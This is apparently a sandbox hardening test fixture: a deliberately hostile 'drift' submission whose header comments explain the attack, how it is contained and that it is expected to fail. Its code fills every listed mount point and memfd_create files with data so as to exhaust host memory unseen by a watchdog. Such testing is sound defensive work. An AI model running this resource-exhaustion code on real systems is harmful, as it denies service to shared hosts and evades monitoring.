# task: drift
# attack: reads /proc/self/mountinfo and writes 8 MB files into every mount point it lists (and into /, /dev, /dev/shm, /run, /var/tmp), up to 512 MB each, then keeps 64 MB in memfd_create files (unmapped: invisible to a resident-memory watchdog), to fill the host's memory through tmpfs mounts that no size caps
# contained: only /tmp and /dev/shm take anything, at most the worker's 64 MB tmpfs budget in total (bwrap's root and /dev are read-only); memfd_create is refused by the tracer's seccomp filter; the candidate fails with its own report
# expect: fail
# expect-reason: hostile report
# run: alone
J = jax
OS = J.version.os
BLOCK = b"\0" * (1 << 20)


def mount_points():
    fd = OS.open("/proc/self/mountinfo", OS.O_RDONLY)
    data = OS.read(fd, 1 << 20).decode()
    OS.close(fd)
    points = [line.split()[4] for line in data.splitlines() if len(line.split()) > 5]
    unique = []
    for point in points + ["/", "/dev", "/dev/shm", "/run", "/var/tmp"]:
        if point not in unique:
            unique.append(point)
    return unique


def fill(folder):
    written = 0
    for index in range(64):
        try:
            fd = OS.open(f"{folder}/hostile-fill-{index}", OS.O_WRONLY | OS.O_CREAT, 384)
        except OS.error:
            return written
        try:
            for _ in range(8):
                OS.write(fd, BLOCK)
                written = written + 1
        except OS.error:
            OS.close(fd)
            return written
        OS.close(fd)
    return written


def memfd():
    kept = []
    try:
        for _ in range(8):
            fd = OS.memfd_create("hostile")
            for _ in range(8):
                OS.write(fd, BLOCK)
            kept.append(fd)
    except OS.error as error:
        return f"memfd refused after {len(kept) * 8} MB ({error.strerror})"
    return f"memfd kept {len(kept) * 8} MB"


def drift(ratio, advantage, epsilon):
    log = []
    total = 0
    for point in mount_points():
        if OS.path.isdir(point) and not point.startswith("/proc"):
            written = fill(point)
            total = total + written
            if written:
                log.append(f"{point}: {written} MB")
    raise ValueError(f"hostile report: {total} MB in all ({', '.join(log)}); {memfd()}")
    return ratio
